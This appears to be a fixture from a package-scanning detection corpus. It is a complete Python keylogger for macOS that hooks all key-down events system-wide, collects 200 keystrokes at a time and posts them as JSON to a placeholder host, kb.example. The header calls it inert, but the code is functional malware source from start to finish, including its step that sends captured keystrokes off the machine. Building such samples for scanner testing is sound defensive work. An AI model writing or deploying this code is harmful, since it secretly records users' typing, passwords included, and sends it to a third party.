# pkgguard corpus 460 (keylogger), modelled on [stealer-profile]; inert, never run.
import json
import urllib.request

from AppKit import NSApplication, NSEvent, NSKeyDownMask
from PyObjCTools import AppHelper

_buffer = []


def _on_key(event):
    _buffer.append(event.characters())
    if len(_buffer) >= 200:
        body = json.dumps(_buffer).encode()
        urllib.request.urlopen(urllib.request.Request("https://kb.example/c", data=body), timeout=5)
        _buffer.clear()


NSApplication.sharedApplication()
NSEvent.addGlobalMonitorForEventsMatchingMask_handler_(NSKeyDownMask, _on_key)
AppHelper.runEventLoop()
